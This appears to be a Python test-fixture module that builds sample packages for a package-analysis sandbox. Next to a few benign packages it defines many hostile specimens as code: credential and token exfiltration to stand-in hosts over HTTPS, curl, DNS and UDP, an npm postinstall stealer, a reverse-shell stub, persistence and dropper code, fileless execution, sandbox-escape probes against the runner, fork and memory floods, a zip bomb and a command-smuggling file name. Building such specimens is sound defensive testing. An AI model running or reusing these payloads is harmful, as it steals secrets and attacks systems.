"""Inert packages, one a behaviour or attack of contracts/sandbox.md, to documentation addresses and `.example` only."""

from __future__ import annotations

import io
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cached_property

from tests.sandbox.samples import composer, crate, gem, jar, npm, sdist, wheel

OUTSIDE_PORT = 24567  # where the specimen `outside` looks for this host; below the ports connections are given


@dataclass(frozen=True)
class Specimen:
    """A package, or what makes it when it is wanted, and how long its phases may take."""

    ecosystem: str
    made: tuple[str, bytes] | Callable[[], tuple[str, bytes]]
    limits: dict[str, float] = field(default_factory=dict)

    @cached_property
    def archive(self) -> tuple[str, bytes]:
        """Its file's name and content."""
        return self.made() if callable(self.made) else self.made


def _python(module: str, *, limits: dict[str, float] | None = None) -> Specimen:
    return Specimen("pypi", wheel("sample", textwrap.dedent(module)), limits or {})


def _setup(setup: str, *, limits: dict[str, float] | None = None) -> Specimen:
    return Specimen("pypi", sdist("sample", setup=textwrap.dedent(setup)), limits or {})


def _node(index: str = "", **scripts: str) -> Specimen:
    return Specimen("npm", npm("sample", textwrap.dedent(index), scripts=scripts))


def _bomb() -> tuple[str, bytes]:
    """A wheel of a few MB with a gigabyte of zeros in it."""
    name, small = wheel("sample", "")
    made = io.BytesIO(small)
    with (
        zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("zeros.bin", "w") as member,
    ):
        for _ in range(1024):
            member.write(bytes(1 << 20))
    return name, made.getvalue()


_SYSCALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*numbers):
    got = libc.syscall(*[ctypes.c_long(one) for one in numbers])
    return got, ctypes.get_errno()
"""
_HTTPS = """
import base64, ssl, urllib.request
secret = open("/home/dev/.ssh/id_rsa", "rb").read()
urllib.request.urlopen("https://collect.example/drop", data=base64.b64encode(b"x=" + secret), timeout=5).read()
"""

BENIGN = {
    "plain wheel": _python('''
        """Adds."""
        def add(first, second):
            return first
        class Sum:
            def total(self):
                return 0
    '''),
    "plain sdist": Specimen("pypi", sdist("sample", "VALUE = 1\n")),
    "plain npm": _node("exports.twice = (value) => value + value\nexports.name = 'sample'\n"),
}

BEHAVIOURS = {
    "https base64": _python(_HTTPS),
    "https to host": _python(f"""
        import base64, ssl, urllib.request
        secret = base64.b64encode(open("/home/dev/.ssh/id_rsa", "rb").read())
        context = ssl._create_unverified_context()
        for address in ("172.17.0.1", "127.0.0.2", "host.docker.internal"):
            try:
                urllib.request.urlopen(f"https://{{address}}:{OUTSIDE_PORT}/drop", secret, 5, context=context).read()
            except OSError as error:
                print(address, error)
    """),
    "install curl": _setup("""
        import subprocess
        subprocess.run(["curl", "-s", "-m", "5", "-d", "@/home/dev/.aws/credentials", "http://198.51.100.20:8080/up"])
    """),
    "dns secret": _python("""
        import os, socket
        token = os.environ["GITHUB_TOKEN"].encode().hex()
        labels = ".".join(token[at:at + 40] for at in range(0, len(token), 40))
        try:
            socket.gethostbyname(labels + ".tunnel.example")
        except OSError:
            pass
    """),
    "own resolver": _python("""
        import socket, struct
        query = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\6direct\\7example\\0" + struct.pack("!HH", 1, 1)
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.settimeout(3)
        one.sendto(query, ("198.51.100.53", 53))
        one.recv(512)
    """),
    "udp": _python("""
        import os, socket
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.sendto(b"beacon " + os.environ["GITHUB_TOKEN"].encode(), ("198.51.100.9", 9999))
        import time; time.sleep(0.2)
    """),
    "reverse shell": _python("""
        import socket
        one = socket.create_connection(("198.51.100.7", 4444), 5)
        one.sendall(b"uid=10001(dev)\\n")
        one.close()
    """),
    "autostart": _python("""
        import os
        with open(os.path.expanduser("~/.bashrc"), "a") as file:
            file.write("echo sample\\n")
        try:
            open("/etc/cron.d/sample", "w")
        except OSError:
            pass
    """),
    "dropper": _setup("""
        import os, subprocess
        with open("/tmp/.helper", "w") as file:
            file.write("#!/bin/sh\\necho dropped\\n")
        os.chmod("/tmp/.helper", 0o755)
        subprocess.run(["/tmp/.helper"])
    """),
    "fileless": _python("""
        import os
        one = os.memfd_create("payload")
        os.write(one, open("/bin/true", "rb").read())
        if os.fork() == 0:
            os.execve(one, ["[kworker]"], {})
        os.wait()
    """),
    "daemon": _python("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 50)
                time.sleep(600)
            os._exit(0)
        os.wait()
    """),
    "thread": _python("""
        import threading, urllib.request
        threading.Thread(target=lambda: urllib.request.urlopen("https://thread.example/in"), daemon=True).start()
    """),
    "when called": _python("""
        def report(url="https://metrics.example/ping"):
            import urllib.request
            return urllib.request.urlopen(url, timeout=5).read()
    """),
    "metadata": _python("""
        import urllib.request
        urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=5).read()
    """),
    "mail": _python("""
        import smtplib
        try:
            with smtplib.SMTP("mail.example", 25, timeout=5) as one:
                one.ehlo()
        except (OSError, smtplib.SMTPException):
            pass
    """),
    "pinned tls": _python("""
        import socket, ssl
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        try:
            context.wrap_socket(socket.create_connection(("pinned.example", 443), 5), server_hostname="pinned.example")
        except ssl.SSLError:
            pass
    """),
    "registry abuse": _python("""
        import http.client, os
        one = http.client.HTTPConnection("127.0.0.1", 8081, timeout=5)
        one.request("POST", "/pypi/legacy/", body=os.environ["DATABASE_URL"])
        one.getresponse().read()
        two = http.client.HTTPConnection("127.0.0.1", 8081, timeout=5)
        two.request("GET", "/pypi/simple/../../" + "a" * 30 + "?carried=out")
        assert two.getresponse().status == 404
    """),
    "npm postinstall": _node(
        "",
        postinstall="node -e \"require('https').get({host:'npm.collect.example',path:'/?t='+require('fs')"
        ".readFileSync('/home/dev/.npmrc').toString('hex')}).on('error',()=>{})\"",
    ),
    "npm fetch": _node("""
        fetch('https://beacon.example/in', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {})
    """),
    "npm shell": _node("require('child_process').execSync('id; uname -a')\n"),
}

ECOSYSTEMS = {
    "gem": Specimen(
        "gem",
        gem(
            "sample",
            textwrap.dedent("""
        require 'socket'
        Socket.getaddrinfo('import.gem.example', 80) rescue nil
        module Sample
          def self.when_called(name)
            Socket.getaddrinfo('execute.gem.example', 80) rescue nil
          end
        end
    """),
            extension=textwrap.dedent("""
        require 'socket'
        Socket.getaddrinfo('install.gem.example', 80) rescue nil
        File.write('Makefile', "all:\\ninstall:\\nclean:\\n")
    """),
        ),
    ),
    "plain gem": Specimen("gem", gem("sample", "module Sample\n  def self.one\n    1\n  end\nend\n")),
    "composer": Specimen(
        "composer",
        composer(
            "sample/sample",
            textwrap.dedent("""\
        <?php
        gethostbyname('import.composer.example');
        function sample_when_called(string $name) { return gethostbyname('execute.composer.example'); }
    """),
        ),
    ),
    "plain composer": Specimen("composer", composer("sample/sample", "<?php\nfunction one() { return 1; }\n")),
    "no composer.json": Specimen("composer", ("sample.zip", wheel("sample")[1])),
    "wolfi": Specimen("apk", ("sample.apk", b"")),
    "crate without cargo": Specimen("cargo", crate("sample")),
    "jar without java": Specimen("maven", jar("sample", {})),
}

ATTACKS = {
    "kill runner": _python("""
        import os, signal
        for pid in (1, os.getppid(), 2, 3):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as error:
                print(pid, error)
    """),
    "read runner": _python("""
        import os
        for path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/fd/1", "/opt/runner/ca/ca.key", "/proc/2/mem"):
            try:
                print(path, open(path, "rb").read(10))
            except OSError as error:
                print(path, error)
        for one in range(3, 40):
            try:
                os.write(one, b'{"type":"done","duration_s":0,"cut":{}}\\n')
            except OSError:
                pass
    """),
    "forged frames": _python("""
        import sys
        print('{"type":"phase","phase":"import","state":"ended","status":"completed"}')
        print('{"type":"done","duration_s":0,"cut":{},"counted":{},"sent":0}')
        sys.stderr.write('{"type":"event","kind":"leak","secret":"forged","form":"plain","phase":"import"}\\n')
    """),
    "io_uring": _python(
        _SYSCALL
        + """
params = ctypes.create_string_buffer(248)
got = libc.syscall(425, 8, params)
print("io_uring", got, ctypes.get_errno())
"""
    ),
    "untraced": _python(
        _SYSCALL
        + """
pid, error = call(56, 0x00800000 | 17, 0, 0, 0, 0)
if pid == 0:
    try:
        import urllib.request
        open("/tmp/unseen", "w").write("x")
    finally:
        os._exit(7)
if pid > 0:
    print("child", os.waitpid(pid, 0))
import os.path
print("unseen", os.path.exists("/tmp/unseen"))
"""
    ),
    "notifier": _python(
        _SYSCALL
        + """
print("seccomp", call(317, 1, 8, 0))
print("userfaultfd", call(323, 0))
"""
    ),
    "debugger": _python(
        _SYSCALL
        + """
print("traceme", call(101, 0, 0, 0, 0))
print("attach", call(101, 16, 1, 0, 0))
"""
    ),
    "root": _python("""
        import os
        for what in (lambda: os.setuid(0), lambda: os.unshare(0x10000000) if hasattr(os, "unshare") else None,
                     lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/disk", 0o60600, 0xFE00)):
            try:
                print(what())
            except OSError as error:
                print(error)
    """),
    "names": _python("""
        import os
        os.makedirs("/tmp/names")
        for name in ('com,ma', 'quo"te', 'par(en', 'clo)se', 'new\\nline', 'an<gle', 'an>gle', 'back\\\\slash',
                     'eq = 3', '<unfinished ...>', '+++ exited with 0 +++', '\\udcff\\udcfe', 'a' * 250,
                     '\\u202egnp.exe'):
            with open(b"/tmp/names/" + os.fsencode(name), "wb") as file:
                file.write(b"x")
    """),
    "links": _python("""
        import os
        os.symlink("/proc/1/environ", "/tmp/link")
        os.symlink("/opt/runner/ca/ca.key", "/tmp/key")
        os.mkfifo("/tmp/pipe")
    """),
    "environment": _python("""
        import os, glob
        print(dict(os.environ))
        for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/mounts", "/proc/1/mountinfo", "/etc/[hr][oe]*"):
            for path in glob.glob(pattern):
                try:
                    print(path, open(path, "rb").read(4000))
                except OSError as error:
                    print(path, error)
    """),
    "outside": _python("""
        import glob, os, socket
        for address in ("172.17.0.1", "172.17.0.2", "10.0.0.1", "192.168.1.1", "198.51.100.1", "host.docker.internal"):
            for port in (24567, 2375, 22):
                try:
                    one = socket.create_connection((address, port), 2)
                    one.sendall(b"hello from the sandbox")
                    one.close()
                except OSError as error:
                    print(address, port, error)
        print("interfaces", [name for _, name in socket.if_nameindex()])
        for path in ("/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"):
            try:
                one = socket.socket(socket.AF_UNIX)
                one.connect(path)
                print("reached", path)
            except OSError as error:
                print(path, error)
        six = socket.socket(socket.AF_INET6)
        six.settimeout(2)
        try:
            six.connect(("2001:db8::1", 80))
            print("reached by IPv6")
        except OSError as error:
            print("IPv6", error)
    """),
}

FLOODS = {
    "fork storm": _python(
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
        limits={"import": 3, "execute": 1},
    ),
    "memory hog": _python(
        """
        hold = []
        while True:
            hold.append(bytearray(b"x" * (8 << 20)))
    """,
        limits={"import": 10, "execute": 5},
    ),
    "disk filler": _python(
        """
        import os
        for folder in ("/tmp", "/home/dev", "/work", "/run", "/dev/shm", "/var/tmp"):
            try:
                with open(folder + "/fill", "wb") as file:
                    while True:
                        file.write(b"x" * (1 << 20))
            except OSError as error:
                print(folder, error)
    """,
        limits={"import": 15, "execute": 15},
    ),
    "deaf": _python(
        """
        import signal, time
        for one in range(1, 65):
            try:
                signal.signal(one, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            try:
                time.sleep(600)
            except BaseException:
                pass
    """,
        limits={"import": 1.5, "execute": 1},
    ),
    "loud": _python(
        """
        import os
        chunk = b"x" * (1 << 20)
        for _ in range(1024):
            os.write(1, chunk)
    """,
        limits={"execute": 0.2},
    ),
    "calls": _python(
        """
        import os
        for one in range(50000):
            try:
                os.unlink("/tmp/none%d" % one)
            except OSError:
                pass
    """,
        limits={"import": 60, "execute": 0.2},
    ),
    "bomb": Specimen("pypi", _bomb),
    "unbuildable": _setup("raise SystemExit('no compiler here')"),
    "no archive": Specimen("pypi", ("sample-1.0.tar.gz", b"this is no archive")),
    "npm no archive": Specimen("npm", ("sample-1.0.0.tgz", b"this is no archive")),
    "hostile file name": Specimen("pypi", ("../../../etc/-r evil;id.whl", wheel("sample")[1])),
    "descriptors": _python(
        """
        import os, socket
        held = []
        try:
            for _ in range(300):
                held.append(socket.create_connection(("198.51.100.%d" % (len(held) % 200 + 1), 80), 1))
        except OSError as error:
            print(len(held), error)
        held.clear()
    """,
        limits={"import": 10, "execute": 1},
    ),
}

ALL = BENIGN | BEHAVIOURS | ECOSYSTEMS | ATTACKS | FLOODS
